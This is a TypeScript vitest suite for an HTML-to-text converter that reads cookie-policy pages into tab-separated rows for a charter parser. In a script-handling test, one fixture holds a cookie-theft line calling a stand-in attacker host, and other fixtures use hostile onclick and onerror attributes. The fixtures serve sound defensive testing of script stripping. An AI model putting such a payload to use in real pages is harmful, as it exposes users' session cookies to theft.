import { describe, expect, it, vi } from 'vitest';
import { htmlTextCandidates, htmlToText } from '../../../src/core/charter/html-to-text.ts';
import { parseCharter } from '../../../src/core/charter/parse.ts';
import { charterPage, DEMO_CHARTER } from '../../../scripts/demo-portal/charters.ts';

const lines = (html: string) => htmlToText(html).split('\n').filter(Boolean);

describe('htmlToText', () => {
  it('lays a platform charter page out for the parser: headings, tab-separated rows', () => {
    const text = htmlToText(charterPage('demo.opendatasoft.com', DEMO_CHARTER));
    expect(text).toContain('## Charte cookies');
    expect(text).toContain('Huwise\tsessionid\t');
    expect(parseCharter(text).entries.length).toBeGreaterThan(0);
  });

  it('drops scripts, styles and comments without running anything', () => {
    const text = htmlToText(
      '<body><script>document.write("<td>_evil</td>")</script><style>td{}</style><!-- <td>x</td> --><p>Hello</p></body>',
    );
    expect(text).toBe('Hello');
  });

  it("ends a script where the standard's escaped script states end it: a '</script>' written by the script inside '<!--' never ends it", () => {
    const cell = (script: string) => htmlToText(`<table><tr><td>sessionid</td><td>Session${script}</td></tr></table>`);
    const escaped = `<script><!--\ndocument.write('<script src="/t.js"></script>'); fetch('//evil.example/?c='+document.cookie);\n//--></script>`;
    expect(cell(escaped)).toBe('sessionid\tSession');
    expect(cell(`<SCRIPT><!--<Script>x</SCRIPT>y--></script>`)).toBe('sessionid\tSession');
    // Outside an escape, or after a double escape ends and its escape with '-->', the first '</script>' still ends it.
    expect(cell(`<script>'<!-'; '<script>'</script>a`)).toBe('sessionid\tSessiona');
    expect(cell(`<script><!--<script>--></script>a`)).toBe('sessionid\tSessiona');
    expect(cell(`<script><!--></script>a`)).toBe('sessionid\tSessiona');
    // A script the standard never ends holds the rest of the page.
    expect(htmlToText(`<p>a</p><script><!--<script></script><p>b</p>`)).toBe('a');
    // After such a script, the page's attributes are read where they are: a hidden element stays hidden.
    const after = `<p hidden>secret</p><div aria-hidden="true">x</div><p>b</p>`;
    expect(htmlToText(`<p>a</p>${escaped}${after}`)).toBe(htmlToText(`<p>a</p>${after}`));
    expect(htmlToText(`<p>a</p>${escaped}${after}`)).not.toMatch(/secret|x/);
  });

  it('keeps markup-looking text as text and decodes entities', () => {
    expect(htmlToText('<p>&lt;b&gt;x&lt;/b&gt; &amp; &#39;a&#x27; &eacute;t&eacute; &unknown;</p>')).toBe("<b>x</b> & 'a' été &unknown;");
  });

  it('decodes character references as the HTML standard says', () => {
    // Numeric references to 0 and past U+10FFFF become U+FFFD; 0x80 is the windows-1252 euro sign;
    // "&not" is a legacy reference that also works without its semicolon; every named reference is known.
    expect(htmlToText('<p>&#0;|&#x110000;|&#x80;|&notit;|&NotEqualTilde;|&bigstar;|&amp</p>')).toBe('\uFFFD|\uFFFD|€|¬it;|≂̸|★|&');
  });

  it('ends lines at block elements and <br>', () => {
    expect(lines('<div>a</div><div>b<br>c</div><ul><li>d</li><li>e</li></ul>')).toEqual(['a', 'b', 'c', 'd', 'e']);
  });

  it('keeps a quoted attribute holding “>” inside its tag', () => {
    const html =
      '<table><tr><th>Provider</th><th>Cookie name</th><th>Purpose</th></tr>' +
      '<tr><td title="a > b" onclick="if (a > b) steal()">Matomo</td>' +
      '<td ng-if="n > 0" data-x=\'</td><td>leak\'>_pk_id.*</td>' +
      '<td><img src="x" onerror="if (a > b) { document.cookie = 1 }">Mesure d’audience</td></tr></table>';
    expect(lines(html)).toEqual(['Provider\tCookie name\tPurpose', 'Matomo\t_pk_id.*\tMesure d’audience']);
  });

  it('never takes the content of script, style, template, noscript, svg, title or form controls for text', () => {
    const html =
      '<title>Charte</title><p>a</p><template><p>t</p></template><noscript><p>n</p></noscript>' +
      '<svg><text>s</text><title>st</title></svg><math><mi>m</mi></math><textarea>x</textarea>' +
      '<select><option>o</option></select><button>Tout accepter</button><p>b</p>';
    expect(lines(html)).toEqual(['a', 'b']);
  });

  it('leaves out hidden elements', () => {
    expect(lines('<p hidden>h</p><p aria-hidden="true">i</p><p style="color: red; display : none">j</p><p>k</p>')).toEqual(['k']);
  });

  it('ends a hidden element where the HTML standard implies its end tag, not at the end of the page', () => {
    const table = '<table><tr><th>Supplier name</th><th>Cookie name</th></tr><tr><td>Huwise</td><td>sessionid</td></tr></table>';
    // A block start tag closes an open <p>; <li> an open <li>; the parent's end tag what it holds.
    expect(lines(`<main><p hidden>Old<h2>Cookies nécessaires</h2>${table}</main>`)).toEqual([
      '## Cookies nécessaires',
      'Supplier name\tCookie name',
      'Huwise\tsessionid',
    ]);
    expect(lines(`<main><ul><li>Intro<li hidden>draft</ul>${table}</main>`)).toEqual([
      'Intro',
      'Supplier name\tCookie name',
      'Huwise\tsessionid',
    ]);
    expect(lines('<p>Note <span style="display:none">x</p><p>after</p>')).toEqual(['Note', 'after']);
    expect(lines('<div><span hidden>x</div>after')).toEqual(['after']);
    expect(lines('<dl><dt hidden>term<dd>definition<dt>next</dl>')).toEqual(['definition', 'next']);
    expect(lines('<select><option>a<option>b</select><p>c')).toEqual(['c']);
    expect(lines('<table><tr><td hidden>a<td>b<tr><th hidden>c<th>d</table>')).toEqual(['\tb', '\td']);
    expect(lines('<h2 hidden>a</h3>b')).toEqual(['b']);
    expect(lines('<p>a<svg/>b<math/>c</p><p>d')).toEqual(['abc', 'd']);
  });

  it('closes only what the standard closes: never past a list, a table or an object opened inside', () => {
    // <li> closes an open <li> only when no list lies between; <p> only when no object (table, cell) does.
    expect(lines('<ul><li hidden>draft<ul><li>nested</ul>still draft</ul><p>after')).toEqual(['after']);
    expect(lines('<p hidden>a<object><div>b</div></object>c</p>d')).toEqual(['d']);
    const nested = htmlToText('<table><tr><td hidden><table><tr><td>a<tr><td>b</table>c</td><td>d</table>');
    expect(nested).toContain('d');
    expect(nested).not.toMatch(/[abc]/);
    expect(lines('<table><tr><td><span hidden>a</td><td>b</table>')).toEqual(['\tb']);
  });

  it('leaves out the page chrome and prefers the main content', () => {
    const html =
      '<header><a href="/">Portail</a></header><nav>Données · Charte</nav>' +
      '<main><header><h1>Charte cookies</h1></header><p><a href="/pdf/">Download as PDF</a></p><p>Texte</p><nav>Sommaire</nav></main>' +
      '<footer>Mentions légales</footer>';
    expect(lines(html)).toEqual(['# Charte cookies', 'Texte']);
  });

  it('without a main element keeps everything but the chrome, and a header inside a section', () => {
    const html = '<header>Site</header><section><header><h2>Politique de cookies</h2></header><p>Texte</p></section><footer>Pied</footer>';
    expect(lines(html)).toEqual(['## Politique de cookies', 'Texte']);
  });

  it('keeps a header inside role="main" (or another sectioning role) as it keeps one inside <main>', () => {
    const table = '<table><tr><th>Supplier name</th><th>Cookie name</th></tr><tr><td>Matomo</td><td>_pk_id.*</td></tr></table>';
    const expected = ['## Audience measurement cookies', 'Supplier name\tCookie name', 'Matomo\t_pk_id.*'];
    expect(lines(`<header>Site</header><div role="main"><header><h2>Audience measurement cookies</h2></header>${table}</div>`)).toEqual(
      expected,
    );
    expect(lines(`<div role="region"><header><h2>Audience measurement cookies</h2></header>${table}</div><footer>Pied</footer>`)).toEqual(
      expected,
    );
    expect(lines('<div role="article"><footer>Mis à jour le 3 mars</footer></div><div><footer>Pied</footer></div>')).toEqual([
      'Mis à jour le 3 mars',
    ]);
  });

  it('offers the page without its main element when the first holds no charter, and never its chrome', () => {
    const html = '<header>Site</header><main><p>Bienvenue</p></main><div><p>Charte</p></div>';
    expect(htmlTextCandidates(html)).toEqual(['Bienvenue', 'Bienvenue\n\nCharte']);
    // A login page whose footer holds a cookie banner's table: its chrome is never a candidate.
    const login =
      '<header><nav>Accueil</nav></header><main><h1>Connexion</h1><form><label>Email</label></form></main>' +
      '<footer><table><tr><th>Nom du cookie</th></tr><tr><td>sessionid</td></tr></table></footer>';
    expect(htmlTextCandidates(login)).toEqual(['# Connexion\n\nEmail', '# Connexion\n\nEmail']);
    expect(htmlTextCandidates('<nav><p>Charte</p></nav>')).toEqual([]);
  });

  it('keeps the line breaks and tabs inside <pre>, so a tab-separated table in a code block reads as rows', () => {
    const html =
      '<h2>Cookies nécessaires</h2><pre><code>\nNom du prestataire\tService et emplacement\tNom du cookies\tFinalités\n' +
      'Opendatasoft\tAuthentification\tsessionid\tSe souvenir de l’utilisateur\r\n' +
      'Opendatasoft\tLangue\tdjango_language\tSe souvenir de la langue\n</code></pre>';
    expect(lines(html)).toEqual([
      '## Cookies nécessaires',
      'Nom du prestataire\tService et emplacement\tNom du cookies\tFinalités',
      'Opendatasoft\tAuthentification\tsessionid\tSe souvenir de l’utilisateur',
      'Opendatasoft\tLangue\tdjango_language\tSe souvenir de la langue',
    ]);
    expect(parseCharter(htmlToText(html)).entries.map((entry) => entry.cookie)).toEqual(['sessionid', 'django_language']);
    // Outside <pre> whitespace is collapsed as before; inside a cell a <pre>'s lines are the cell's parts.
    expect(lines('<pre>a  b\n\nc</pre><p>d\te\nf</p>')).toEqual(['a b', 'c', 'd e f']);
    expect(htmlToText('<table><tr><td><pre>a\tb\nc</pre></td><td>d</td></tr></table>')).toBe('a b; c\td');
  });

  it('keeps a table cell on its row, its lines joined by “; ”, and empty cells in place', () => {
    const html = '<table><tr><td>Google</td><td>_ga<br>_gid</td><td></td><td><p>Mesure</p><p>d’audience</p></td></tr></table>';
    expect(htmlToText(html)).toBe('Google\t_ga; _gid\t\tMesure; d’audience');
  });

  it('repeats a cell spanning rows into the rows below it, in its column', () => {
    const html =
      '<table><tr><th>Supplier name</th><th>Cookie name</th><th>Duration</th><th>Function</th></tr>' +
      '<tr><td rowspan="2">Huwise</td><td>sessionid</td><td>2 weeks</td><td rowspan="2">Keeps you signed in</td></tr>' +
      '<tr><td>csrftoken</td><td>12 months</td></tr>' +
      '<tr><td>Matomo</td><td>_pk_id.*</td><td>13 months</td><td>Counts visits</td></tr></table>';
    expect(lines(html)).toEqual([
      'Supplier name\tCookie name\tDuration\tFunction',
      'Huwise\tsessionid\t2 weeks\tKeeps you signed in',
      'Huwise\tcsrftoken\t12 months\tKeeps you signed in',
      'Matomo\t_pk_id.*\t13 months\tCounts visits',
    ]);
    expect(parseCharter(htmlToText(html)).entries.map((entry) => [entry.provider, entry.cookie])).toEqual([
      ['Huwise', 'sessionid'],
      ['Huwise', 'csrftoken'],
      ['Matomo', '_pk_id.'],
    ]);
    // A column left empty between a row's last cell and a rowspan stays a cell; " rowspan=0" spans its row group.
    expect(lines('<table><tr><td>a<td>b<td rowspan=" 0">c<tr><td>d<tr><td>e</table>')).toEqual(['a\tb\tc', 'd\t\tc', 'e\t\tc']);
  });

  it('repeats a cell spanning columns into them, but leaves a row of one spanning cell (a category) alone', () => {
    const html =
      '<table><tr><th>Supplier name</th><th>Cookie name</th><th>Duration</th><th>Function</th></tr>' +
      '<tr><th colspan="4">Strictly necessary cookies</th></tr>' +
      '<tr><td>Huwise</td><td>sessionid</td><td colspan="2">Session</td></tr>' +
      '<tr><td colspan="2" rowspan="2">Matomo</td><td>13 months</td><td>Counts visits</td></tr>' +
      '<tr><td>30 minutes</td><td>Counts visits</td></tr></table>';
    expect(lines(html)).toEqual([
      'Supplier name\tCookie name\tDuration\tFunction',
      'Strictly necessary cookies',
      'Huwise\tsessionid\tSession\tSession',
      'Matomo\tMatomo\t13 months\tCounts visits',
      'Matomo\tMatomo\t30 minutes\tCounts visits',
    ]);
  });

  it('never carries a rowspan past its row group or its table, nor spans cells outside a table', () => {
    expect(lines('<table><thead><tr><th rowspan="5">a<th>b</thead><tbody><tr><td>c<td>d</tbody></table>')).toEqual(['a\tb', 'c\td']);
    expect(lines('<table><tr><td rowspan="5">a<td>b</table><table><tr><td>c<td>d</table>')).toEqual(['a\tb', 'c\td']);
    expect(lines('<td colspan="3" rowspan="3">a<td>b<tr><td>c')).toEqual(['a\tb', 'c']);
  });

  it('reads rows whose cells and rows are never closed, as the HTML standard allows', () => {
    expect(lines('<table><tr><td>a<td>b<tr><td>c<td>d</table>')).toEqual(['a\tb', 'c\td']);
  });

  it('ends the head at the first body content even without a body tag', () => {
    expect(htmlToText('<html><head><title>T</title><meta charset="utf-8"><p>Charte')).toBe('Charte');
  });

  it('reads text with no markup at all', () => {
    expect(htmlToText('Charte cookies')).toBe('Charte cookies');
  });
});

describe('htmlToText: accordion buttons titling a table', () => {
  const HEAD = '<tr><th>Nom du prestataire<th>Nom du cookie<th>Durée<th>Finalité';
  const page = (button: string) =>
    '<main><h1>Charte cookies</h1><h2>Cookies strictement nécessaires</h2>' +
    `<table>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table>` +
    `${button}<table>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure</table></main>`;
  const categories = (html: string) => parseCharter(htmlToText(html)).entries.map((entry) => [entry.cookie, entry.category]);

  it('reads a heading inside a button as a heading: its table’s rows get its category', () => {
    for (const button of [
      '<button class="accordion" aria-expanded="false"><h3>Cookies de mesure d’audience</h3></button>',
      '<button type="button"><h3>Cookies de mesure d’audience</h3></button>',
    ]) {
      const html = page(button);
      expect(htmlToText(html), button).toContain('\n### Cookies de mesure d’audience\n');
      expect(categories(html), button).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'statistics'],
      ]);
    }
  });

  it('reads a disclosure button whose words title a section as a plain heading line, and a button inside a heading as its words', () => {
    for (const button of [
      '<div class="accordion"><button type="button" class="accordion">Cookies de mesure d’audience<svg><text>+</text></svg></button></div>',
      '<button type="button" aria-expanded="false">Cookies de mesure d’audience</button>',
      '<button aria-controls="p2">Cookies de mesure d’audience</button>',
      '<button class="accordion-button collapsed" data-bs-toggle="collapse">Cookies de mesure d’audience</button>',
      '<button data-toggle="collapse">Cookies de mesure d’audience</button>',
      '<button class="btn cookie-toggle">Cookies de mesure d’audience</button>',
    ]) {
      const plain = page(button);
      expect(lines(plain), button).toContain('Cookies de mesure d’audience');
      expect(categories(plain), button).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'statistics'],
      ]);
    }
    // The WAI-ARIA and Bootstrap accordions: the button sits inside the heading, marked or not.
    for (const button of [
      '<h3><button aria-controls="p2">Mesure d’audience</button></h3>',
      '<h3><button>Mesure d’audience</button></h3>',
    ]) {
      const inside = page(button);
      expect(lines(inside), button).toContain('### Mesure d’audience');
      expect(categories(inside)[1], button).toEqual(['_pk_id.', 'statistics']);
    }
    // A button giving the first table its category, before any heading.
    const first =
      '<main><button aria-expanded="true">Cookies strictement nécessaires</button>' +
      `<table>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure</table></main>`;
    expect(categories(first)).toEqual([['_pk_id.', 'necessary']]);
  });

  it('never makes a plain button (no heading in or around it, no disclosure markup) a heading, whatever its words', () => {
    for (const button of [
      '<button type="button">Cookies de mesure d’audience</button>',
      '<div class="accordion"><button type="button">Cookies de mesure d’audience</button></div>',
      '<button class="btn btn-primary" aria-label="Mesure d’audience">Cookies de mesure d’audience</button>',
    ]) {
      expect(categories(page(button)), button).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'necessary'],
      ]);
    }
  });

  it('never files a section’s rows under the category a choice button names (a review’s false alarm: a Matomo cookie read as necessary)', () => {
    // Under "Cookies de mesure d'audience", a button offering a choice is no title: `_pk_id.*` stays statistics.
    const audience = (button: string) =>
      "<main><h1>Charte cookies</h1><h2>Cookies de mesure d'audience</h2>" +
      "<p>Ces cookies mesurent l'audience. Vous pouvez les refuser à tout moment :</p>" +
      `<p>${button}</p><table>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure d'audience</table></main>`;
    for (const words of [
      'Uniquement les cookies nécessaires',
      'Use necessary cookies only',
      'Interdire les cookies tiers',
      '✓ Tout accepter les cookies tiers',
    ]) {
      // Plain, as in the review's page, and marked as a disclosure control: the words alone say it is an action.
      for (const button of [`<button type="button">${words}</button>`, `<button type="button" aria-expanded="false">${words}</button>`]) {
        expect(categories(audience(button)), button).toEqual([['_pk_id.', 'statistics']]);
        expect(lines(audience(button)), button).not.toContain(words);
      }
      // Nor does a heading inside such a button, or around it, give its category.
      for (const button of [`<button><h3>${words}</h3></button>`, `<h3><button aria-expanded="false">${words}</button></h3>`]) {
        expect(categories(audience(button)), button).toEqual([['_pk_id.', 'statistics']]);
      }
    }
  });

  it('reads an accordion title that says its cookies are set only with consent as that title (review of cfe2ff8: "only" alone is no action)', () => {
    const afterNecessary = (button: string) =>
      '<main><h1>Charte cookies</h1><h2>Cookies strictement nécessaires</h2>' +
      `<table>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table>` +
      `${button}<table>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure</table></main>`;
    for (const button of [
      '<h3><button aria-expanded="false" aria-controls="s">Cookies de mesure d’audience, déposés uniquement avec votre accord</button></h3>',
      '<h3><button aria-expanded="false" aria-controls="s">Audience measurement cookies (set only with your consent)</button></h3>',
      '<button class="accordion-button" aria-expanded="false">Cookies de mesure d’audience (seulement si vous acceptez)</button>',
    ]) {
      expect(categories(afterNecessary(button)), button).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'statistics'],
      ]);
    }
  });

  it('never makes an action button, or one naming no category, a heading: the rows keep the section they are in', () => {
    for (const button of [
      '<button>Accepter</button><button>Tout refuser</button><button>Paramétrer</button>',
      '<button>Accepter les cookies statistiques</button>',
      '<button>Refuser les cookies non nécessaires</button>',
      '<button>Paramètres des cookies</button><button>Cookie settings</button>',
      '<button><h3>Paramétrer</h3></button>',
      '<button>Save my choices</button><button>En savoir plus</button>',
      `<button>${'Cookies statistiques '.repeat(20)}</button>`,
      '<button hidden>Cookies statistiques</button>',
    ]) {
      const html = page(button);
      expect(categories(html), button).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'necessary'],
      ]);
    }
    expect(lines(page('<button>Accepter</button><button>Tout refuser</button><button>Paramétrer</button>'))).not.toContain('Accepter');
  });

  it('reads the rows of a collapsed accordion panel (hidden, hidden="until-found", aria-hidden) under its button’s title', () => {
    // Reviewer's model of the WAI-ARIA accordion (a button with aria-expanded naming its panel by aria-controls), and jQuery UI's.
    const accordion = (panel: string) =>
      '<main><h1>Charte cookies</h1>' +
      '<h3><button type="button" aria-expanded="true" aria-controls="s1">Cookies strictement nécessaires</button></h3>' +
      `<div id="s1" role="region"><table>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table></div>` +
      '<h3><button type="button" aria-expanded="false" aria-controls="s0 s2">Cookies de mesure d’audience</button></h3>' +
      `<div id="s2" ${panel}><table>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure d’audience</table></div></main>`;
    for (const panel of [
      'role="region" hidden',
      'role="region" hidden="until-found"',
      'role="tabpanel" aria-hidden="true" style="display: none;"',
    ]) {
      expect(categories(accordion(panel)), panel).toEqual([
        ['sessionid', 'necessary'],
        ['_pk_id.', 'statistics'],
      ]);
    }
  });

  it('still leaves out a hidden element no expanding control names, and a hidden dialog one does', () => {
    const panel = (control: string, element: string) =>
      `<main>${control}<p>shown</p><${element} id="p2" hidden><p>not shown</p></${element}></main>`;
    for (const [control, element] of [
      ['<button aria-controls="p2">Cookies de mesure d’audience</button>', 'div'],
      ['<button aria-expanded="false" aria-controls="p3">Cookies de mesure d’audience</button>', 'div'],
      ['<button aria-expanded="false" aria-controls="p2">Paramétrer</button>', 'dialog'],
    ] as const) {
      expect(lines(panel(control, element)), control).not.toContain('not shown');
    }
    expect(
      lines('<div id="p2" hidden><p>before its control</p></div><button aria-expanded="false" aria-controls="p2">Voir</button>'),
    ).toEqual([]);
  });

  it('leaves a button inside a table row out of the row, as before', () => {
    expect(
      lines('<table><tr><td>Matomo<td><button>Cookies statistiques</button>_pk_id<td><button><h3>Mesure d’audience</h3></button></table>'),
    ).toEqual(['Matomo\t_pk_id\t']);
  });

  it('holds back a bounded part of a button’s text, however long or deeply nested (linear in the page)', () => {
    const long = `<button>${'<b>cookies</b> '.repeat(20_000)}</button><p>after</p>`;
    expect(long.length).toBeGreaterThan(100_000);
    expect(lines(long)).toEqual(['after']);
    // Buttons nested in tables nested in buttons: each text piece is kept at most once, and only the first few.
    const nested = `${'<button><table><tr><td>'.repeat(5_000)}x${'</td></tr></table></button>'.repeat(5_000)}<p>after</p>`;
    expect(nested.length).toBeGreaterThan(100_000);
    const join = Array.prototype.join;
    let elements = 0;
    const spy = vi.spyOn(Array.prototype, 'join').mockImplementation(function (this: unknown[], separator?: string) {
      elements += this.length;
      return join.call(this, separator);
    });
    let text: string;
    try {
      text = htmlToText(nested);
    } finally {
      spy.mockRestore();
    }
    expect(text.split('\n').filter(Boolean)).toEqual(['after']);
    expect(elements).toBeLessThanOrEqual(4 * nested.length);
  });
});

describe('htmlToText: table captions', () => {
  const HEAD = '<tr><th>Nom du prestataire<th>Nom du cookie<th>Durée<th>Finalité';
  const categories = (html: string) => parseCharter(htmlToText(html)).entries.map((entry) => [entry.cookie, entry.category]);

  it('keeps the section heading’s category over a caption naming no category (a review’s false alarm: a necessary cookie read as other)', () => {
    // Reviewer's model of a live charter page: a table captioned "Liste des cookies déposés" under its section heading.
    for (const caption of ['Liste des cookies déposés', 'Tableau récapitulatif', 'Cookies Matomo']) {
      const html =
        '<main><h1>Charte cookies</h1><h3>Cookies strictement nécessaires</h3>' +
        `<table><caption>${caption}</caption><thead>${HEAD}</thead><tbody>` +
        '<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session<tr><td>Cloudflare<td>__cf_bm<td>30 minutes<td>Protection contre les robots' +
        '</tbody></table></main>';
      expect(categories(html), caption).toEqual([
        ['sessionid', 'necessary'],
        ['__cf_bm', 'necessary'],
      ]);
    }
  });

  it('reads a caption mentioning cookies with more than a list’s words as the heading of its table (a re-review’s missed breach: an advertising table filed as necessary)', () => {
    for (const caption of [
      'Cookies publicitaires',
      'Advertising cookies',
      'Marketing cookies',
      'Cookies de nos partenaires',
      'Cookies réseaux sociaux',
    ]) {
      const html =
        '<main><h1>Charte cookies</h1><h3>Cookies strictement nécessaires</h3>' +
        `<table>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table>` +
        `<table><caption>${caption}</caption>${HEAD}<tr><td>Disqus<td>disqus_unique<td>1 an<td>Publicité</table></main>`;
      expect(categories(html), caption).toEqual([
        ['sessionid', 'necessary'],
        ['disqus_unique', 'other'],
      ]);
    }
    // A caption saying only that its table lists the cookies is still left out.
    for (const caption of [
      'Liste des cookies utilisés sur ce site',
      'Cookies used on this site',
      'Summary of cookies',
      'Tableau récapitulatif des cookies',
    ]) {
      const html =
        '<main><h1>Charte cookies</h1><h3>Cookies strictement nécessaires</h3>' +
        `<table><caption>${caption}</caption>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table></main>`;
      expect(categories(html), caption).toEqual([['sessionid', 'necessary']]);
    }
  });

  it('reads a caption naming a category as the heading of its table', () => {
    const html =
      '<main><h1>Charte cookies</h1><h3>Cookies strictement nécessaires</h3>' +
      `<table>${HEAD}<tr><td>Huwise<td>sessionid<td>2 semaines<td>Session</table>` +
      `<table><caption>Cookies de mesure d’audience</caption>${HEAD}<tr><td>Matomo<td>_pk_id.*<td>13 mois<td>Mesure</table></main>`;
    expect(lines(html)).toContain('Cookies de mesure d’audience');
    expect(categories(html)).toEqual([
      ['sessionid', 'necessary'],
      ['_pk_id.', 'statistics'],
    ]);
  });
});

describe('htmlToText: description lists', () => {
  it('lays each term out with its description as one “term : description” line, so a record of one field per line reads', () => {
    // Reviewer's model of a live charter page giving each cookie as a <dl> of "Nom du cookie" / value pairs.
    const html =
      "<main><h1>Charte cookies</h1><h3>Cookies de mesure d'audience</h3>" +
      '<dl>\n  <dt>Nom du cookie</dt>\n  <dd>_pk_id</dd><dt>Fournisseur<dd>Matomo<dt>Durée</dt><dd>13 mois</dd><dt>Finalité</dt><dd>Mesure</dd></dl>' +
      '<ul><li>Nom du cookie : _ga</li><li>Fournisseur : Google</li><li>Durée : 13 mois</li><li>Finalité : Mesure</li></ul></main>';
    expect(lines(html).slice(2, 6)).toEqual(['Nom du cookie : _pk_id', 'Fournisseur : Matomo', 'Durée : 13 mois', 'Finalité : Mesure']);
    expect(parseCharter(htmlToText(html)).entries.map((entry) => [entry.provider, entry.cookie, entry.category])).toEqual([
      ['Matomo', '_pk_id', 'statistics'],
      ['Google', '_ga', 'statistics'],
    ]);
  });

  it('writes no second colon after a term ending in its own (a re-review’s finding: provider ": Matomo", duration ": 30 minutes")', () => {
    const html =
      "<main><h1>Charte cookies</h1><h3>Cookies de mesure d'audience</h3>" +
      '<dl><dt>Nom du cookie :</dt><dd>_pk_ses</dd><dt>Fournisseur : </dt><dd>Matomo</dd><dt>Durée：</dt><dd>30 minutes</dd><dt>Finalité <b>:</b></dt><dd>Mesure</dd></dl></main>';
    expect(lines(html).slice(2)).toEqual(['Nom du cookie : _pk_ses', 'Fournisseur : Matomo', 'Durée： 30 minutes', 'Finalité : Mesure']);
    expect(parseCharter(htmlToText(html)).entries.map((entry) => [entry.provider, entry.cookie, entry.duration, entry.category])).toEqual([
      ['Matomo', '_pk_ses', '30 minutes', 'statistics'],
    ]);
  });

  it('joins a term’s several descriptions on its line with ", ", none dropped (a re-review’s finding: _pk_id and _pk_ses neither entries nor unread)', () => {
    const html =
      "<main><h1>Charte cookies</h1><h3>Cookies de mesure d'audience</h3>" +
      '<dl>\n  <dt>Nom du cookie</dt>\n  <dd>_pk_id</dd>\n  <dd>_pk_ses</dd>\n  <dt>Fournisseur</dt><dd>Matomo</dd><dt>Durée</dt><dd>13 mois</dd><dt>Finalité</dt><dd>Mesure</dd></dl><p>Fin</p></main>';
    expect(lines(html).slice(2)).toEqual([
      'Nom du cookie : _pk_id, _pk_ses',
      'Fournisseur : Matomo',
      'Durée : 13 mois',
      'Finalité : Mesure',
      'Fin',
    ]);
    expect(parseCharter(htmlToText(html)).entries.map((entry) => [entry.provider, entry.cookie, entry.category])).toEqual([
      ['Matomo', '_pk_id', 'statistics'],
      ['Matomo', '_pk_ses', 'statistics'],
    ]);
  });

  it('keeps a description with no term before it and an empty term on lines of their own; a second description joins its term’s line', () => {
    expect(lines('<dl><dd>a</dd><dt>b</dt><dd>c</dd><dd>d</dd><dt></dt><dd>e</dd></dl><h2>f</h2>')).toEqual(['a', 'b : c, d', 'e', '## f']);
    expect(lines('<dl><dt>Nom</dt><dd hidden>x</dd></dl><p>y</p>')).toEqual(['Nom', 'y']);
    expect(lines('<dl><dt>Nom</dt></dl><table><tr><td>a<td>b</table>')).toEqual(['Nom', 'a\tb']);
  });
});

// Models, not seen on a real portal (charter-formats.md lists no such shape; the five real charters hold none):
// footnote markers in <sup> a rich-text editor may put after a name, as review parse8 of 2026-12-06 wrote them.
describe('htmlToText: footnote markers', () => {
  const row = (cell: string) => lines(`<table><tr><td>Google</td><td>${cell}</td><td>13 mois</td></tr></table>`)[0];

  it('drops a footnote marker in <sup> (digits, bracketed, in a link, daggers)', () => {
    expect(row('_ga<sup>1</sup>')).toBe('Google\t_ga\t13 mois');
    expect(row('_ga<sup><a href="#fn1">[12]</a></sup>, _gid<sup>‡</sup>')).toBe('Google\t_ga, _gid\t13 mois');
  });

  it('keeps any other <sup> text, in order', () => {
    expect(row('1<sup>er</sup> janvier')).toBe('Google\t1er janvier\t13 mois');
    expect(row('_ga<sup>*</sup>')).toBe('Google\t_ga*\t13 mois');
    expect(row('a<sup>note<br>1</sup>b')).toBe('Google\tanote; 1b\t13 mois');
    expect(lines('<p>Mesure<sup>2</sup> <sup>un très long texte en exposant</sup> fin</p>')).toEqual([
      'Mesure un très long texte en exposant fin',
    ]);
  });
});
